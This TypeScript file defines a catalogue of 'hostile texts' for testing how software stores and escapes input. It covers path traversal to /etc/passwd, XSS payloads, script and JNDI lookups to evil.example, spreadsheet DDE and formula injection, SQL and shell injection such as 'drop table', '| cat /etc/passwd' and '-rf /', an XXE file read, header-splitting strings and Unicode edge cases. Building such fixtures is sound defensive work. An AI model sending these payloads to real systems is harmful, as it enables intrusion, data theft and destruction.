/** Texts that programs have tripped over: kept as they are or refused in words, shown escaped, never run (I26). */

/** Every text that would run sets this on the window it runs in. */
export const hostileMark = 'hostileTextRan'
const run = `window.${hostileMark}=1`
const lines = (block: string) =>
  block
    .trim()
    .replaceAll('RUN', run)
    .replaceAll('MARK', hostileMark)
    .split(/\n| ¦ /)

const paths = lines(String.raw`
../ ¦ ../../../../etc/passwd ¦ ..\..\..\windows\win.ini ¦ %2e%2e%2f%2e%2e%2fetc%2fpasswd ¦ %252e%252e%252f
..%c0%af..%c0%af ¦ /etc/passwd ¦ C:\Windows\System32 ¦ \\server\share ¦ file:///etc/passwd ¦ ./. ¦ . ¦ .. ¦ /
//evil.example/x ¦ \\evil.example ¦ CON ¦ NUL ¦ aux.txt ¦ ~root ¦ .htaccess ¦ a/b/c ¦ a?b=c&d=e#f ¦ #fragment
?query ¦ ;jsessionid=1
`)

const markup = [
  ...lines(`
<script>RUN</script> ¦ </script><script>RUN</script> ¦ "><script>RUN</script> ¦ '><script>RUN</script>
</title><script>RUN</script> ¦ </textarea><script>RUN</script> ¦ </style><script>RUN</script>
--><script>RUN</script> ¦ ]]><script>RUN</script> ¦ <ScRiPt>RUN</sCrIpT>
<script src=//evil.example/x.js></script> ¦ <script type=module>RUN</script> ¦ <img src=x onerror=RUN>
<img src=x onerror="RUN"> ¦ "><img src=x onerror=RUN> ¦ ' onmouseover='RUN ¦ " onfocus="RUN" autofocus="
<svg onload=RUN> ¦ <svg/onload=RUN> ¦ <svg><script>RUN</script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s> ¦ <body onload=RUN> ¦ <iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>parent.MARK=1</script>"></iframe> ¦ <object data="javascript:RUN">
<embed src="javascript:RUN"> ¦ <a href="javascript:RUN">x</a> ¦ javascript:RUN ¦ JaVaScRiPt:RUN
data:text/html,<script>RUN</script> ¦ vbscript:msgbox(1)
<meta http-equiv="refresh" content="0;url=//evil.example"> ¦ <base href="//evil.example/">
<link rel=stylesheet href="//evil.example/x.css"> ¦ <style>*{display:none}</style>
<form action="//evil.example"><input name=password> ¦ <input autofocus onfocus=RUN> ¦ <details open ontoggle=RUN>
<video><source onerror=RUN> ¦ <math><mtext></p><script>RUN</script>
<noscript><p title="</noscript><img src=x onerror=RUN>"> ¦ <template><script>RUN</script></template>
<!--<script>RUN</script>--> ¦ <![CDATA[<script>RUN</script>]]>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x> ¦ <x onclick=RUN>
<b>bold</b> ¦ <marquee> ¦ </div></main></body></html> ¦ <plaintext> ¦ <textarea> ¦ < ¦ > ¦ <> ¦ </ ¦ &
&lt;script&gt; ¦ &amp;lt; ¦ &#60;script&#62; ¦ &#x3c;script&#x3e; ¦ &nbsp; ¦ &copy ¦ " ¦ '
style="position:fixed;inset:0" ¦ expression(RUN) ¦ self.__next_f.push([1,"x"]) ¦ $L1 ¦ $undefined ¦ $$typeof
$Sreact.fragment ¦ $@0 ¦ $ACTION_ID_0
`),
  `java\tscript:${run}`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e`,
  '`',
  `"'\`<>&`,
]

const formulas = [
  ...lines(`
=cmd|' /C calc'!A0 ¦ =1+1 ¦ =HYPERLINK("http://evil.example","x") ¦ =IMPORTXML("http://evil.example","//a") ¦ +1+1
-1+1 ¦ -2+3+cmd|' /C calc'!D2 ¦ @SUM(1+1) ¦ @SUM ¦ ＝1+1 ¦ ＋1 ¦ －1 ¦ ＠SUM(A1) ¦ |calc ¦ %0A=1+1 ¦ "=1+1" ¦ ",=1+1,"
'=1+1 ¦ a"b""c ¦ DDE("cmd";"/C calc";"!A0")A0 ¦ {=1+1}
`),
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'a,b;c\td',
  'a\r\n=1+1',
]

const statements = [
  ...lines(String.raw`
' or '1'='1 ¦ '; drop table people; -- ¦ '); delete from audit_events; -- ¦ " or ""=" ¦ 1; select pg_sleep(10)
1' union select null,null-- ¦ admin'-- ¦ \'; drop table locks; -- ¦ /* comment */ ¦ -- comment ¦ $1
$$ select 1 $$ ¦ % ¦ _ ¦ %% ¦ 100% ¦ \% ¦ E'\\' ¦ x'00' ¦ :name ¦ ? ¦ $(whoami) ¦ ; ls ¦ | cat /etc/passwd
&& reboot ¦ > /dev/null ¦ $HOME ¦ %PATH% ¦ !! ¦ -rf / ¦ --help ¦ {"$gt":""} ¦ {"__proto__":{"admin":true}}
__proto__ ¦ constructor ¦ prototype ¦ toString ¦ hasOwnProperty ¦ then ¦ *)(uid=*))(|(uid=* ¦ (?:a+)+$
(((((((((((a ¦ [a- ¦ (a|a)*b
`),
  '\\',
  '\\\\',
  'a\\',
  '`whoami`',
  `\${HOME}`,
]

const templates = [
  ...lines(String.raw`
{{7*7}} ¦ #{7*7} ¦ <%= 7*7 %> ¦ {% for x in y %} ¦ {name} ¦ {0} ¦ {count, plural, one {x} other {y}} ¦ { ¦ } ¦ {{
'{' ¦ it''s ¦ <b>{x}</b> ¦ %s ¦ %n%n%n%n ¦ %s%s%s%s%s%s ¦ %x ¦ %d ¦ %00 ¦ %1$s ¦ %(x)s ¦ $& ¦ $' ¦ $1$2 ¦ \0 ¦ \n
@import "x"
`),
  `\${7*7}`,
  '$`',
  '\\u0000',
  '\\ud800',
  `\${jndi:ldap://evil.example/x}`,
]

const headers = [
  'a\r\nSet-Cookie: x=1',
  'a\r\n\r\n<script>x</script>',
  'a\nBcc: all@evil.example',
  'a\rX',
  '%0d%0aSet-Cookie:x=1',
  '\u560d\u560aSet-Cookie:x=1',
  'a\u2028b',
  'a\u2029b',
  'a\u0085b',
  'a\vb\fc',
  'a\tb',
  'name="x"; filename="../x"',
  'Content-Length: 0',
  'x\u0000y',
  '=?utf-8?B?PHNjcmlwdD4=?=',
]

const nullish = [
  ...lines(`
null ¦ NULL ¦ undefined ¦ nil ¦ None ¦ NaN ¦ Infinity ¦ -Infinity ¦ true ¦ false ¦ 0 ¦ -0 ¦ 00 ¦ 1e309 ¦ 0x0
9007199254740993 ¦ 99999999999999999999999999 ¦ 1/0 ¦ 2026-02-30 ¦ 1970-01-01T00:00:00Z ¦ [] ¦ {} ¦ [object Object]
"" ¦ {"a":1} ¦ N/A
`),
  '',
  ' ',
  '   ',
  '\u00a0',
  '\u3000',
  '\ufeff',
]

const scripts = [
  ...lines(`
Zoë Müller-Straße ¦ Łódź Śćżółw ¦ Åse Ærø Øst ¦ Nguyễn Thị Hương ¦ 李小龍 ¦ 山田 太郎 ¦ 김철수 ¦ Александр Пушкин
Γιώργος Παπαδόπουλος ¦ مُحَمَّد ¦ שלום עולם ¦ हिन्दी नाम ¦ ไทยภาษา ¦ İstanbul ıI ¦ ẞ ß ſ ¦ ǅ ǆ ¦ é ¦ ﬁ ﬂ ﬃ ¦ Å Å Å
①②③ ¦ ＡＢＣ１２３ ¦ 𝕳𝖔𝖙𝖊𝖑 ¦ 𠜎𠜱𠝹 ¦ раураl.example ¦ Z̸̡̢̛a̵l̶g̷o̸̢ ¦ O'Brien-Smith ¦ Anne–Marie d’Arc ¦ ʻOkina ¦ ﷽ ¦ 🙂
👩‍👩‍👧‍👦 ¦ 👋🏽 ¦ 🏳️‍🌈 ¦ 🇩🇪🇫🇷 ¦ 🇩 ¦ ❤️ ¦ 1️⃣ ¦ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ¦ ☺︎
`),
  'e\u0301',
  'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307',
  '\u0301leading mark',
  '\u{10ffff}',
  '\uffff',
  '\ufffd',
  '\ue000',
]

const directions = [
  '\u202egnp.exe',
  '\u202dabc\u202c',
  '\u202abc',
  '\u202bבc',
  '\u2066abc\u2069',
  '\u2067abc',
  '\u2068abc',
  '\u200e204',
  '\u200f204',
  '\u061c204',
  'שלום <b>204</b>',
  '204 \u202e402',
  'a\u200bb',
  'a\u200cb',
  'a\u200db',
  'a\u2060b',
  'a\u00adb',
  'a\ufeffb',
  '\u200b',
  '\u2800',
  '\u3164',
  '\u115f\u1160',
  '\u180e',
  '\ufff9a\ufffab\ufffb',
  '\u{e0041}\u{e0042}',
  'a\u034fb',
]

/** What no column and no screen can hold: half a character, or the sign that ends a text in C. */
const unstorable = [
  'a\0b',
  'a\ud83d',
  '\0',
  '\0\0\0',
  '204\0',
  `<script>\0${run}</script>`,
  '\ud800',
  '\udfff',
  '\ude00a',
  '\udc00\ud800',
  '\ud800\ud800',
  'Ada \ud83d\ude00\ud83d',
]

const controls = [
  '\u0001',
  '\u0007bell',
  '\bback',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u007f',
  '\u009b31m',
  'a\u001fb',
  '\u0004',
  '\u001a',
]

/** Those of a few shapes that are only long; the greatest is a million characters. */
const long = () => [
  'x'.repeat(1_000_000),
  'x'.repeat(81),
  'x'.repeat(201),
  'x'.repeat(501),
  'W'.repeat(80),
  'x'.repeat(10_000),
  'é'.repeat(40),
  '👩‍👩‍👧‍👦'.repeat(30),
  'a '.repeat(5_000),
  `${'<b>'.repeat(1_000)}`,
  '['.repeat(20_000),
  '{"a":'.repeat(5_000),
  '&amp;'.repeat(100),
  '\u0301'.repeat(400),
  '%'.repeat(400),
  'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamter',
]

/** All of them, each once; every kind is in every part of the list of 24 or more. */
export function hostileTexts(): string[] {
  const kinds = [
    ...[markup, paths, formulas, statements, templates, headers, nullish],
    ...[scripts, directions, unstorable, controls, long()],
  ]
  const most = Math.max(...kinds.map(({ length }) => length))
  const inTurn = Array.from({ length: most }, (_, place) => kinds.flatMap((kind) => kind.slice(place, place + 1)))
  return [...new Set(inTurn.flat())]
}

/** Whether a database and JSON keep the text as it is: whole characters, none of them NUL. */
export const isKeepable = (text: string): boolean => !/[\0\p{Cs}]/u.test(text)
